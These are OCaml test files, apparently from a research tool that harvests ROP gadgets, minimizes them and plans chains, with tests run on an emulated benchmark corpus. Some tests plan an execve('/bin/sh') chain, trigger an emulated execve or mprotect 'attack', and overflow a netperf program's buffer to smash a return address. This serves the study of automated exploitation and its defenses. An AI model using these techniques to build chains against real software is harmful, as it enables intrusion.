    List.hd (gadgets_of [ Insn.Add (Insn.Reg Reg.RSP, Insn.Imm 4096L); Insn.Ret ])
  in
  Alcotest.(check bool) "huge delta unusable" false (Gp_core.Extract.usable g_big);
  let g_ok = List.hd (gadgets_of [ Insn.Pop Reg.RDI; Insn.Ret ]) in
  Alcotest.(check bool) "pop usable" true (Gp_core.Extract.usable g_ok)

let test_raw_scan_unaligned_beats_aligned () =
  let image =
    Gp_codegen.Pipeline.compile
      "int main() { int i; int s = 0; for (i = 0; i < 4; i = i + 1) { s = s + i; } return s; }"
  in
  let aligned =
    Gp_core.Extract.raw_scan
      ~config:{ Gp_core.Extract.default_config with Gp_core.Extract.unaligned = false }
      image
  in
  let unaligned = Gp_core.Extract.raw_scan image in
  Alcotest.(check bool) "unaligned finds more" true
    (List.length unaligned > List.length aligned)

let test_harvest_finds_runtime_pops () =
  let image = Gp_codegen.Pipeline.compile "int main() { return 0; }" in
  let gadgets = Gp_core.Extract.harvest image in
  let sets r =
    List.exists
      (fun (g : Gp_core.Gadget.t) -> List.mem_assoc r g.Gp_core.Gadget.controlled)
      gadgets
  in
  List.iter
    (fun r -> Alcotest.(check bool) (Reg.name r ^ " settable") true (sets r))
    [ Reg.RDI; Reg.RSI; Reg.RDX; Reg.RAX; Reg.RCX; Reg.RBP ]

(* ----- subsumption ----- *)

let test_subsume_identical () =
  (* two byte-identical pop rdi; ret gadgets at different addresses: the
     minimizer keeps exactly one *)
  let insns =
    [ Insn.Pop Reg.RDI; Insn.Ret; Insn.Pop Reg.RDI; Insn.Ret ]
  in
  let image = image_of insns in
  let g1 = List.map Gp_core.Gadget.of_summary (Gp_symx.Exec.summarize image 0x400000L) in
  let g2 = List.map Gp_core.Gadget.of_summary (Gp_symx.Exec.summarize image 0x400002L) in
  let minimal, stats = Gp_core.Subsume.minimize (g1 @ g2) in
  Alcotest.(check int) "input 2" 2 stats.Gp_core.Subsume.input;
  Alcotest.(check int) "kept 1" 1 (List.length minimal)

let test_subsume_weaker_precondition_wins () =
  (* unconditional rdi setter subsumes a conditional one with the same
     post-state; formula (1) *)
  let uncond = List.hd (gadgets_of [ Insn.Pop Reg.RDI; Insn.Ret ]) in
  (* fabricate a conditional sibling: same record, extra pre *)
  let cond =
    { uncond with
      Gp_core.Gadget.id = uncond.Gp_core.Gadget.id + 100000;
      pre = [ Gp_smt.Formula.Eq (Gp_smt.Term.var "rbx_0", Gp_smt.Term.const 0L) ] }
  in
  Alcotest.(check bool) "uncond subsumes cond" true (Gp_core.Subsume.subsumes uncond cond);
  Alcotest.(check bool) "cond does not subsume uncond" false
    (Gp_core.Subsume.subsumes cond uncond)

let test_subsume_different_effects_kept () =
  let a = List.hd (gadgets_of [ Insn.Pop Reg.RDI; Insn.Ret ]) in
  let b = List.hd (gadgets_of [ Insn.Pop Reg.RSI; Insn.Ret ]) in
  Alcotest.(check bool) "no subsumption" false
    (Gp_core.Subsume.subsumes a b || Gp_core.Subsume.subsumes b a);
  let minimal, _ = Gp_core.Subsume.minimize [ a; b ] in
  Alcotest.(check int) "both kept" 2 (List.length minimal)

let test_pool_indexing () =
  let gadgets =
    gadgets_of [ Insn.Pop Reg.RDI; Insn.Ret ]
    @ gadgets_of [ Insn.Pop Reg.RSI; Insn.Pop Reg.RBP; Insn.Ret ]
  in
  let pool = Gp_core.Pool.build gadgets in
  Alcotest.(check int) "rdi setters" 1 (List.length (Gp_core.Pool.setting pool Reg.RDI));
  Alcotest.(check int) "rsi setters" 1 (List.length (Gp_core.Pool.setting pool Reg.RSI));
  Alcotest.(check int) "rbx setters" 0 (List.length (Gp_core.Pool.setting pool Reg.RBX));
  Alcotest.(check int) "size" 2 (Gp_core.Pool.size pool)

(* property: minimize never loses semantics classes — every input gadget
   is subsumed by (or identical to) some survivor *)
let prop_minimize_covers seed =
  let rng = Gp_util.Rng.create seed in
  let regs = [| Reg.RDI; Reg.RSI; Reg.RDX; Reg.RAX; Reg.RBX; Reg.RCX |] in
  let mk () =
    let r = regs.(Gp_util.Rng.int rng (Array.length regs)) in
    let extra = regs.(Gp_util.Rng.int rng (Array.length regs)) in
    if Gp_util.Rng.bool rng then [ Insn.Pop r; Insn.Ret ]
    else [ Insn.Pop r; Insn.Pop extra; Insn.Ret ]
  in
  let gadgets = List.concat (List.init 6 (fun _ -> gadgets_of (mk ()))) in
  let minimal, _ = Gp_core.Subsume.minimize gadgets in
  List.for_all
    (fun g ->
      List.exists (fun s -> Gp_core.Subsume.subsumes s g) minimal)
    gadgets

let suite =
  [ Alcotest.test_case "record fields (Table II)" `Quick test_record_fields;
    Alcotest.test_case "classification" `Quick test_classification;
    Alcotest.test_case "usable filter" `Quick test_usable_filter;
    Alcotest.test_case "unaligned scan" `Quick test_raw_scan_unaligned_beats_aligned;
    Alcotest.test_case "runtime pops harvested" `Quick test_harvest_finds_runtime_pops;
    Alcotest.test_case "subsume identical" `Quick test_subsume_identical;
    Alcotest.test_case "weaker precondition wins" `Quick
      test_subsume_weaker_precondition_wins;
    Alcotest.test_case "different effects kept" `Quick test_subsume_different_effects_kept;
    Alcotest.test_case "pool indexing" `Quick test_pool_indexing;
    Gen.qtest "minimize covers inputs" ~count:50 QCheck2.Gen.(int_range 0 100000)
      prop_minimize_covers ]
