(* Tests for the benchmark corpus: every program compiles, runs
   deterministically, and survives obfuscation (spot-checked here; the
   full differential matrix runs in the integration suite). *)

let run_entry ?(cfg = Gp_obf.Obf.none) (e : Gp_corpus.Programs.entry) =
  let image =
    Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform cfg)
      e.Gp_corpus.Programs.source
  in
  let m = Gp_emu.Machine.create image in
  (* the netperf program reads its option block from the input area *)
  Gp_emu.Memory.write64 m.Gp_emu.Machine.mem Gp_corpus.Netperf.input_area 2L;
  Gp_emu.Memory.write64 m.Gp_emu.Machine.mem
    (Int64.add Gp_corpus.Netperf.input_area 8L) 0L;
  Gp_emu.Memory.write64 m.Gp_emu.Machine.mem
    (Int64.add Gp_corpus.Netperf.input_area 16L) 0L;
  let outcome = Gp_emu.Machine.run ~fuel:40_000_000 m in
  (outcome, Gp_emu.Machine.output m)

let all_entries =
  Gp_corpus.Programs.all @ Gp_corpus.Spec.all @ [ Gp_corpus.Netperf.entry ]

let test_corpus_size () =
  Alcotest.(check int) "16 benchmark programs" 16 (List.length Gp_corpus.Programs.all);
  Alcotest.(check int) "4 spec programs" 4 (List.length Gp_corpus.Spec.all)

let test_all_compile_and_exit () =
  List.iter
    (fun (e : Gp_corpus.Programs.entry) ->
      match run_entry e with
      | Gp_emu.Machine.Exited _, out ->
        Alcotest.(check bool)
          (e.Gp_corpus.Programs.name ^ " prints") true (String.length out >= 8)
      | o, _ ->
        Alcotest.failf "%s: %s" e.Gp_corpus.Programs.name
          (match o with
           | Gp_emu.Machine.Fault m -> "fault " ^ m
           | Gp_emu.Machine.Timeout -> "timeout"
           | Gp_emu.Machine.Attacked _ -> "attacked"
           | Gp_emu.Machine.Exited _ -> assert false))
    all_entries

let test_deterministic () =
  List.iter
    (fun (e : Gp_corpus.Programs.entry) ->
      Alcotest.(check bool) (e.Gp_corpus.Programs.name ^ " deterministic") true
        (run_entry e = run_entry e))
    [ Gp_corpus.Programs.find "bubble_sort"; Gp_corpus.Programs.find "rc4_stream" ]

let test_find () =
  Alcotest.(check string) "find" "quicksort"
    (Gp_corpus.Programs.find "quicksort").Gp_corpus.Programs.name;
  Alcotest.check_raises "unknown"
    (Invalid_argument "Corpus.Programs.find: unknown program nope") (fun () ->
      ignore (Gp_corpus.Programs.find "nope"))

(* spot-check obfuscation preservation on two programs per preset (the
   full matrix lives in the integration suite / bench) *)
let test_obfuscation_spot_check () =
  List.iter
    (fun prog ->
      let e = Gp_corpus.Programs.find prog in
      let reference = run_entry e in
      List.iter
        (fun (name, cfg) ->
          if run_entry ~cfg e <> reference then
            Alcotest.failf "%s under %s changed behaviour" prog name)
        [ ("ollvm", Gp_obf.Obf.ollvm); ("tigress", Gp_obf.Obf.tigress) ])
    [ "gcd_lcm"; "string_reverse" ]

let test_netperf_overflow_reachable () =
  (* a long option block must crash the unprotected program *)
  let image =
    Gp_codegen.Pipeline.compile Gp_corpus.Netperf.entry.Gp_corpus.Programs.source
  in
  let m = Gp_emu.Machine.create image in
  Gp_emu.Memory.write64 m.Gp_emu.Machine.mem Gp_corpus.Netperf.input_area 64L;
  for i = 1 to 64 do
    Gp_emu.Memory.write64 m.Gp_emu.Machine.mem
      (Int64.add Gp_corpus.Netperf.input_area (Int64.of_int (8 * i)))
      0x4242424242424242L
  done;
  match Gp_emu.Machine.run ~fuel:20_000_000 m with
  | Gp_emu.Machine.Fault _ -> ()   (* smashed return address *)
  | _ -> Alcotest.fail "expected a crash from the overflow"

let suite =
  [ Alcotest.test_case "corpus size" `Quick test_corpus_size;
    Alcotest.test_case "all compile and exit" `Slow test_all_compile_and_exit;
    Alcotest.test_case "deterministic" `Quick test_deterministic;
    Alcotest.test_case "find" `Quick test_find;
    Alcotest.test_case "obfuscation spot check" `Slow test_obfuscation_spot_check;
    Alcotest.test_case "netperf overflow" `Quick test_netperf_overflow_reachable ]
