(* Tests for Gp_util: RNG determinism, hex helpers, image container. *)

let test_rng_deterministic () =
  let a = Gp_util.Rng.create 42 in
  let b = Gp_util.Rng.create 42 in
  for _ = 1 to 100 do
    Alcotest.(check int64) "same stream" (Gp_util.Rng.next_int64 a)
      (Gp_util.Rng.next_int64 b)
  done

let test_rng_seeds_differ () =
  let a = Gp_util.Rng.create 1 in
  let b = Gp_util.Rng.create 2 in
  Alcotest.(check bool) "different seeds differ" true
    (Gp_util.Rng.next_int64 a <> Gp_util.Rng.next_int64 b)

let test_rng_int_bounds () =
  let rng = Gp_util.Rng.create 7 in
  for _ = 1 to 1000 do
    let v = Gp_util.Rng.int rng 17 in
    Alcotest.(check bool) "in range" true (v >= 0 && v < 17)
  done

let test_rng_choose () =
  let rng = Gp_util.Rng.create 7 in
  let l = [ 1; 2; 3 ] in
  for _ = 1 to 50 do
    Alcotest.(check bool) "member" true (List.mem (Gp_util.Rng.choose rng l) l)
  done

let test_rng_shuffle_permutes () =
  let rng = Gp_util.Rng.create 3 in
  let l = List.init 20 Fun.id in
  let s = Gp_util.Rng.shuffle rng l in
  Alcotest.(check (list int)) "same multiset" l (List.sort compare s)

let test_rng_split_independent () =
  let a = Gp_util.Rng.create 9 in
  let sub = Gp_util.Rng.split a in
  let v1 = Gp_util.Rng.next_int64 sub in
  (* same construction gives the same sub-stream *)
  let b = Gp_util.Rng.create 9 in
  let sub' = Gp_util.Rng.split b in
  Alcotest.(check int64) "split deterministic" v1 (Gp_util.Rng.next_int64 sub')

let test_hex_of_bytes () =
  Alcotest.(check string) "hex" "deadbeef"
    (Gp_util.Hex.of_bytes (Bytes.of_string "\xde\xad\xbe\xef"))

let test_hex_int64_le () =
  let b = Gp_util.Hex.int64_le 0x0102030405060708L in
  Alcotest.(check string) "little endian" "0807060504030201"
    (Gp_util.Hex.of_bytes b)

let mk_image () =
  Gp_util.Image.create ~entry:0x400000L
    ~code:(Bytes.of_string "\x90\xc3")
    ~data:(Bytes.of_string "hi\x00there\x00")
    ~symbols:
      [ { Gp_util.Image.sym_name = "f"; sym_addr = 0x400000L; sym_size = 2 } ]
    ()

let test_image_bounds () =
  let img = mk_image () in
  Alcotest.(check bool) "in code" true (Gp_util.Image.in_code img 0x400001L);
  Alcotest.(check bool) "not in code" false (Gp_util.Image.in_code img 0x400002L);
  Alcotest.(check bool) "in data" true (Gp_util.Image.in_data img 0x600000L);
  Alcotest.(check int) "code byte" 0x90 (Gp_util.Image.byte img 0x400000L);
  Alcotest.(check int) "data byte" (Char.code 'h') (Gp_util.Image.byte img 0x600000L)

let test_image_unmapped_raises () =
  let img = mk_image () in
  Alcotest.check_raises "unmapped"
    (Invalid_argument "Image.byte: address 0x500000 unmapped") (fun () ->
      ignore (Gp_util.Image.byte img 0x500000L))

let test_image_symbols () =
  let img = mk_image () in
  Alcotest.(check int64) "symbol addr" 0x400000L (Gp_util.Image.symbol_addr img "f");
  Alcotest.(check bool) "symbol_at" true
    (match Gp_util.Image.symbol_at img 0x400001L with
     | Some s -> s.Gp_util.Image.sym_name = "f"
     | None -> false)

let test_image_cstring () =
  let img = mk_image () in
  Alcotest.(check string) "first" "hi" (Gp_util.Image.read_cstring img 0x600000L);
  Alcotest.(check string) "second" "there"
    (Gp_util.Image.read_cstring img 0x600003L)

let suite =
  [ Alcotest.test_case "rng deterministic" `Quick test_rng_deterministic;
    Alcotest.test_case "rng seeds differ" `Quick test_rng_seeds_differ;
    Alcotest.test_case "rng int bounds" `Quick test_rng_int_bounds;
    Alcotest.test_case "rng choose member" `Quick test_rng_choose;
    Alcotest.test_case "rng shuffle permutes" `Quick test_rng_shuffle_permutes;
    Alcotest.test_case "rng split deterministic" `Quick test_rng_split_independent;
    Alcotest.test_case "hex of bytes" `Quick test_hex_of_bytes;
    Alcotest.test_case "hex int64 le" `Quick test_hex_int64_le;
    Alcotest.test_case "image bounds" `Quick test_image_bounds;
    Alcotest.test_case "image unmapped raises" `Quick test_image_unmapped_raises;
    Alcotest.test_case "image symbols" `Quick test_image_symbols;
    Alcotest.test_case "image cstring" `Quick test_image_cstring ]
