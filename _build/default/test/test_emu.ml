(* Tests for the concrete emulator: instruction semantics, flags vs
   conditions (differential property against int64 predicates), memory,
   the syscall model. *)

open Gp_x86

(* Run a raw instruction sequence with given initial registers. *)
let exec_insns ?(regs = []) insns =
  let code = Encode.insns (insns @ [ Insn.Hlt ]) in
  let image = Gp_util.Image.create ~entry:0x400000L ~code ~data:(Bytes.create 16) () in
  let m = Gp_emu.Machine.create image in
  List.iter (fun (r, v) -> Gp_emu.Machine.set_reg m r v) regs;
  let rec step () =
    match Gp_emu.Machine.step m with
    | () -> if m.Gp_emu.Machine.steps < 1000 then step ()
    | exception Gp_emu.Machine.Halt _ -> ()
    | exception Gp_emu.Memory.Fault _ -> ()
  in
  step ();
  m

let reg = Gp_emu.Machine.reg

let test_mov_and_arith () =
  let m =
    exec_insns
      [ Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 10L);
        Insn.Mov (Insn.Reg Reg.RBX, Insn.Imm 32L);
        Insn.Add (Insn.Reg Reg.RAX, Insn.Reg Reg.RBX);
        Insn.Movabs (Reg.RCX, 0x100000000L);
        Insn.Sub (Insn.Reg Reg.RCX, Insn.Imm 1L) ]
  in
  Alcotest.(check int64) "add" 42L (reg m Reg.RAX);
  Alcotest.(check int64) "movabs+sub" 0xffffffffL (reg m Reg.RCX)

let test_push_pop_stack () =
  let m =
    exec_insns
      [ Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 7L);
        Insn.Push Reg.RAX;
        Insn.Pop Reg.RBX ]
  in
  Alcotest.(check int64) "pop" 7L (reg m Reg.RBX)

let test_xchg_lea () =
  let m =
    exec_insns
      [ Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 1L);
        Insn.Mov (Insn.Reg Reg.RBX, Insn.Imm 2L);
        Insn.Xchg (Reg.RAX, Reg.RBX);
        Insn.Lea (Reg.RCX, Insn.mem ~disp:100 Reg.RAX) ]
  in
  Alcotest.(check int64) "xchg" 2L (reg m Reg.RAX);
  Alcotest.(check int64) "lea" 102L (reg m Reg.RCX)

let test_memory_rw () =
  let mem = Gp_emu.Memory.create () in
  Gp_emu.Memory.map mem "r" 0x1000L 64;
  Gp_emu.Memory.write64 mem 0x1008L 0x0123456789abcdefL;
  Alcotest.(check int64) "rw" 0x0123456789abcdefL (Gp_emu.Memory.read64 mem 0x1008L);
  Alcotest.(check int) "byte" 0xef (Gp_emu.Memory.read8 mem 0x1008L);
  Alcotest.(check bool) "fault" true
    (try ignore (Gp_emu.Memory.read8 mem 0x2000L); false
     with Gp_emu.Memory.Fault _ -> true)

let test_cstring () =
  let mem = Gp_emu.Memory.create () in
  Gp_emu.Memory.map mem "r" 0x1000L 64;
  Gp_emu.Memory.write_bytes mem 0x1000L (Bytes.of_string "/bin/sh\x00junk");
  Alcotest.(check string) "cstring" "/bin/sh" (Gp_emu.Memory.read_cstring mem 0x1000L)

(* differential: each condition code after cmp a, b matches its predicate *)
let cond_predicate (c : Insn.cond) a b =
  let ult x y = Int64.unsigned_compare x y < 0 in
  match c with
  | Insn.E -> a = b
  | Insn.NE -> a <> b
  | Insn.L -> Int64.compare a b < 0
  | Insn.LE -> Int64.compare a b <= 0
  | Insn.G -> Int64.compare a b > 0
  | Insn.GE -> Int64.compare a b >= 0
  | Insn.B -> ult a b
  | Insn.BE -> not (ult b a)
  | Insn.A -> ult b a
  | Insn.AE -> not (ult a b)
  | Insn.S -> Int64.compare (Int64.sub a b) 0L < 0
  | Insn.NS -> Int64.compare (Int64.sub a b) 0L >= 0
  | Insn.O | Insn.NO | Insn.P | Insn.NP -> true   (* not checked here *)

(* Exact differential: drive the condition via a jcc skipping a mov. *)
let jcc_taken c a b =
  (* layout: cmp; jcc +7; mov rcx,1 (7 bytes); hlt.  rcx=1 iff NOT taken *)
  let insns =
    [ Insn.Cmp (Insn.Reg Reg.RAX, Insn.Reg Reg.RBX);
      Insn.Jcc (c, 7);
      Insn.Mov (Insn.Reg Reg.RCX, Insn.Imm 1L) ]
  in
  let m = exec_insns ~regs:[ (Reg.RAX, a); (Reg.RBX, b) ] insns in
  reg m Reg.RCX = 0L

let prop_jcc_matches_predicate (a, b, ci) =
  let c = Insn.cond_of_number ci in
  match c with
  | Insn.O | Insn.NO | Insn.P | Insn.NP -> true
  | _ -> jcc_taken c a b = cond_predicate c a b

let test_call_ret () =
  (* call +1 (skip nothing, lands on next); then inc rax; ret to pushed addr *)
  let m =
    exec_insns
      [ Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 5L);
        Insn.Call 0;    (* pushes next address and falls through *)
        Insn.Pop Reg.RBX (* the pushed return address *) ]
  in
  Alcotest.(check int64) "return addr points after call"
    (Int64.add 0x400000L 12L) (reg m Reg.RBX)

let test_syscall_exit () =
  let code =
    Encode.insns
      [ Insn.Mov (Insn.Reg Reg.RDI, Insn.Imm 42L);
        Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 60L);
        Insn.Syscall ]
  in
  let image = Gp_util.Image.create ~entry:0x400000L ~code ~data:(Bytes.create 8) () in
  match Gp_emu.Machine.run_image image with
  | Gp_emu.Machine.Exited 42L, _ -> ()
  | _ -> Alcotest.fail "expected exit 42"

let test_syscall_execve_attack () =
  (* stage "/x" in data, call execve *)
  let code =
    Encode.insns
      [ Insn.Movabs (Reg.RDI, 0x600000L);
        Insn.Mov (Insn.Reg Reg.RSI, Insn.Imm 0L);
        Insn.Mov (Insn.Reg Reg.RDX, Insn.Imm 0L);
        Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 59L);
        Insn.Syscall ]
  in
  let image =
    Gp_util.Image.create ~entry:0x400000L ~code ~data:(Bytes.of_string "/x\x00") ()
  in
  match Gp_emu.Machine.run_image image with
  | Gp_emu.Machine.Attacked (Gp_emu.Machine.Execve { path; _ }), _ ->
    Alcotest.(check string) "path" "/x" path
  | _ -> Alcotest.fail "expected execve attack"

let test_syscall_execve_bad_path_continues () =
  (* execve of a non-absolute path fails with ENOENT and execution continues *)
  let code =
    Encode.insns
      [ Insn.Movabs (Reg.RDI, 0x600000L);
        Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 59L);
        Insn.Syscall;
        Insn.Mov (Insn.Reg Reg.RDI, Insn.Imm 9L);
        Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 60L);
        Insn.Syscall ]
  in
  let image =
    Gp_util.Image.create ~entry:0x400000L ~code ~data:(Bytes.of_string "nope\x00") ()
  in
  match Gp_emu.Machine.run_image image with
  | Gp_emu.Machine.Exited 9L, _ -> ()
  | _ -> Alcotest.fail "expected continuation to exit 9"

let test_syscall_mprotect_requires_alignment () =
  let run addr =
    let code =
      Encode.insns
        [ Insn.Movabs (Reg.RDI, addr);
          Insn.Mov (Insn.Reg Reg.RSI, Insn.Imm 0x1000L);
          Insn.Mov (Insn.Reg Reg.RDX, Insn.Imm 7L);
          Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 10L);
          Insn.Syscall;
          Insn.Mov (Insn.Reg Reg.RDI, Insn.Imm 1L);
          Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 60L);
          Insn.Syscall ]
    in
    let image = Gp_util.Image.create ~entry:0x400000L ~code ~data:(Bytes.create 8) () in
    fst (Gp_emu.Machine.run_image image)
  in
  (match run Gp_emu.Machine.stack_base with
   | Gp_emu.Machine.Attacked (Gp_emu.Machine.Mprotect _) -> ()
   | _ -> Alcotest.fail "aligned mapped mprotect should attack");
  match run (Int64.add Gp_emu.Machine.stack_base 3L) with
  | Gp_emu.Machine.Exited 1L -> ()
  | _ -> Alcotest.fail "misaligned mprotect should fail and continue"

let test_self_modifying_fetch () =
  (* code overwrites its own upcoming instruction (an HLT becomes a NOP):
     the fetch path must observe the write *)
  let target = 0x400000L in
  let prefix patch_addr =
    [ Insn.Movabs (Reg.RBX, patch_addr);
      (* the write replaces 8 HLT bytes with 8 NOPs *)
      Insn.Movabs (Reg.RCX, 0x9090909090909090L);
      Insn.Mov (Insn.Mem (Insn.mem Reg.RBX), Insn.Reg Reg.RCX) ]
  in
  let prefix_len = Bytes.length (Encode.insns (prefix 0L)) in
  let patch_addr = Int64.add target (Int64.of_int prefix_len) in
  let code = Encode.insns (prefix patch_addr) in
  (* append: 8 hlt bytes (patched into nops), then exit(3) *)
  let tail =
    Encode.insns
      (List.init 8 (fun _ -> Insn.Hlt)
      @ [ Insn.Mov (Insn.Reg Reg.RDI, Insn.Imm 3L);
          Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 60L);
          Insn.Syscall ])
  in
  let full = Bytes.cat code tail in
  let image = Gp_util.Image.create ~entry:target ~code:full ~data:(Bytes.create 8) () in
  match Gp_emu.Machine.run_image image with
  | Gp_emu.Machine.Exited 3L, _ -> ()
  | Gp_emu.Machine.Fault m, _ -> Alcotest.failf "fault: %s" m
  | _ -> Alcotest.fail "expected exit 3 after self-patch"

let suite =
  [ Alcotest.test_case "mov and arith" `Quick test_mov_and_arith;
    Alcotest.test_case "push/pop" `Quick test_push_pop_stack;
    Alcotest.test_case "xchg/lea" `Quick test_xchg_lea;
    Alcotest.test_case "memory rw" `Quick test_memory_rw;
    Alcotest.test_case "cstring" `Quick test_cstring;
    Alcotest.test_case "call pushes return" `Quick test_call_ret;
    Alcotest.test_case "syscall exit" `Quick test_syscall_exit;
    Alcotest.test_case "execve attack" `Quick test_syscall_execve_attack;
    Alcotest.test_case "execve bad path continues" `Quick
      test_syscall_execve_bad_path_continues;
    Alcotest.test_case "mprotect alignment" `Quick
      test_syscall_mprotect_requires_alignment;
    Alcotest.test_case "self-modifying fetch" `Quick test_self_modifying_fetch;
    Gen.qtest "jcc matches predicate" ~count:800
      QCheck2.Gen.(triple Gen.imm64 Gen.imm64 (int_range 0 15))
      prop_jcc_matches_predicate ]
