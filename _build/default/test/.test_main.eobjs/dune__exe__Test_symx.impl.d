test/test_symx.ml: Alcotest Bytes Encode Formula Gen Gp_emu Gp_smt Gp_symx Gp_util Gp_x86 Insn Int64 List QCheck2 Reg Solver String Term
