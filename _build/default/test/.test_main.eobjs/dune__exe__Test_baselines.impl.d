test/test_baselines.ml: Alcotest Gp_baselines Gp_codegen Gp_core Gp_emu List
