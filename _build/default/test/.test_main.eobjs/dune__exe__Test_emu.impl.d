test/test_emu.ml: Alcotest Bytes Encode Gen Gp_emu Gp_util Gp_x86 Insn Int64 List QCheck2 Reg
