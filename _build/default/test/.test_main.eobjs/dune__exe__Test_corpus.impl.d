test/test_corpus.ml: Alcotest Gp_codegen Gp_corpus Gp_emu Gp_obf Int64 List String
