test/test_util.ml: Alcotest Bytes Char Fun Gp_util List
