test/test_obf.ml: Alcotest Gen Gp_codegen Gp_emu Gp_ir Gp_obf Gp_util Hashtbl Int64 List QCheck2 String
