test/gen.ml: Gp_smt Gp_x86 Insn Int32 Int64 Printf QCheck2 QCheck_alcotest Reg
