test/test_integration.ml: Alcotest Array Gp_baselines Gp_codegen Gp_core Gp_corpus Gp_emu Gp_harness Gp_obf Int64 List
