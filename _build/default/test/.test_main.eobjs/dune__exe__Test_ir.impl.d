test/test_ir.ml: Alcotest Bytes Gp_ir Gp_minic Ir List String
