test/test_payload.ml: Alcotest Array Bytes Encode Gp_core Gp_symx Gp_util Gp_x86 Insn List Option Reg String
