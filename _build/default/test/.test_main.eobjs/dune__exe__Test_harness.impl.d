test/test_harness.ml: Alcotest Gp_codegen Gp_core Gp_corpus Gp_emu Gp_harness Hashtbl List String
