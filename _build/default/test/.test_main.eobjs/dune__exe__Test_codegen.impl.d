test/test_codegen.ml: Alcotest Bytes Gp_codegen Gp_core Gp_emu Gp_obf Gp_util Gp_x86 List Printf String
