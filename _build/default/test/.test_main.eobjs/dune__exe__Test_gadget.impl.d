test/test_gadget.ml: Alcotest Array Bytes Encode Gen Gp_codegen Gp_core Gp_smt Gp_symx Gp_util Gp_x86 Insn List QCheck2 Reg
