test/test_x86.ml: Alcotest Bytes Char Decode Encode Fun Gen Gp_util Gp_x86 Insn List QCheck2 Reg String
