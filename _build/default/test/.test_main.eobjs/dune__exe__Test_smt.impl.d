test/test_smt.ml: Alcotest Formula Gen Gp_smt Gp_util Int64 List Printf QCheck2 Solver Term
