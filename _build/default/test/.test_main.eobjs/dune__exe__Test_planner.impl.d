test/test_planner.ml: Alcotest Bytes Encode Gp_core Gp_emu Gp_symx Gp_util Gp_x86 Hashtbl Insn Int64 List Option Reg
