test/test_minic.ml: Alcotest Ast Check Gp_minic Lexer List Parser String
