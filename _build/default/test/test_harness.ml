(* Tests for the experiment harness plumbing: table rendering, workspace
   helpers, the CFI study, and the netperf probe. *)

module Table = Gp_harness.Table

let test_table_render () =
  let t = Table.create ~title:"T" ~header:[ "a"; "bb" ] in
  Table.add_row t [ "1"; "2" ];
  Table.add_row t [ "333"; "4" ];
  let s = Table.render t in
  Alcotest.(check bool) "title" true (String.length s > 0 && s.[0] = '=');
  (* all rows present *)
  List.iter
    (fun frag ->
      let contains hay needle =
        let nh = String.length hay and nn = String.length needle in
        let rec go i = i + nn <= nh && (String.sub hay i nn = needle || go (i + 1)) in
        go 0
      in
      Alcotest.(check bool) frag true (contains s frag))
    [ "T"; "a"; "bb"; "333" ]

let test_workspace_build () =
  let b = Gp_harness.Workspace.build (Gp_corpus.Programs.find "fibonacci") in
  Alcotest.(check string) "config" "original" b.Gp_harness.Workspace.config_name;
  Alcotest.(check bool) "pool nonempty" true
    (Gp_core.Pool.size b.Gp_harness.Workspace.analysis.Gp_core.Api.pool > 0)

let test_gadget_text_stable () =
  let b = Gp_harness.Workspace.build (Gp_corpus.Programs.find "fibonacci") in
  match b.Gp_harness.Workspace.analysis.Gp_core.Api.gadgets with
  | g :: _ ->
    Alcotest.(check string) "idempotent"
      (Gp_harness.Workspace.gadget_text g)
      (Gp_harness.Workspace.gadget_text g)
  | [] -> Alcotest.fail "empty pool"

let test_chain_is_new_logic () =
  let texts : (string, unit) Hashtbl.t = Hashtbl.create 4 in
  let b = Gp_harness.Workspace.build (Gp_corpus.Programs.find "fibonacci") in
  let o =
    Gp_harness.Workspace.run_gp
      ~planner_config:
        { Gp_core.Planner.max_plans = 2; node_budget = 500; time_budget = 10.;
          branch_cap = 8; goal_cap = 4; max_steps = 12 }
      b (Gp_core.Goal.Execve "/bin/sh")
  in
  match o.Gp_core.Api.chains with
  | c :: _ ->
    (* empty baseline: everything is new *)
    Alcotest.(check bool) "new vs empty" true
      (Gp_harness.Workspace.chain_is_new texts c);
    (* baseline containing all its gadgets: nothing is new *)
    List.iter
      (fun (s : Gp_core.Plan.step) ->
        Hashtbl.replace texts
          (Gp_harness.Workspace.gadget_text s.Gp_core.Plan.gadget) ())
      c.Gp_core.Payload.c_steps;
    Alcotest.(check bool) "old vs full" false
      (Gp_harness.Workspace.chain_is_new texts c)
  | [] -> Alcotest.fail "no chain"

let test_cfi_original_clean () =
  let rows =
    snd
      (Gp_harness.Cfi_study.study
         ~entries:[ Gp_corpus.Programs.find "fibonacci" ] ())
  in
  List.iter
    (fun (r : Gp_harness.Cfi_study.row) ->
      if r.Gp_harness.Cfi_study.cfi_config = "original" then begin
        Alcotest.(check int) "original has no indirect transfers" 0
          r.Gp_harness.Cfi_study.cfi_transfers
      end
      else
        Alcotest.(check bool)
          (r.Gp_harness.Cfi_study.cfi_config ^ " violates")
          true
          (r.Gp_harness.Cfi_study.cfi_violations > 0))
    rows

let test_netperf_probe () =
  let image =
    Gp_codegen.Pipeline.compile Gp_corpus.Netperf.entry.Gp_corpus.Programs.source
  in
  match Gp_harness.Netperf_attack.probe image with
  | Some p ->
    Alcotest.(check bool) "filler sane" true
      (p.Gp_harness.Netperf_attack.filler_words > 0
      && p.Gp_harness.Netperf_attack.filler_words < 32);
    Alcotest.(check bool) "ret cell in stack" true
      (p.Gp_harness.Netperf_attack.ret_cell > Gp_emu.Machine.stack_base
      && p.Gp_harness.Netperf_attack.ret_cell < Gp_emu.Machine.stack_top)
  | None -> Alcotest.fail "probe failed"

let suite =
  [ Alcotest.test_case "table render" `Quick test_table_render;
    Alcotest.test_case "workspace build" `Quick test_workspace_build;
    Alcotest.test_case "gadget text stable" `Quick test_gadget_text_stable;
    Alcotest.test_case "chain_is_new" `Slow test_chain_is_new_logic;
    Alcotest.test_case "cfi study shapes" `Slow test_cfi_original_clean;
    Alcotest.test_case "netperf probe" `Quick test_netperf_probe ]
