(* Tests for payload assembly: linearization, target solving, cell
   conflict detection, and end-to-end validation of a hand-built chain. *)

open Gp_x86

let image_of insns =
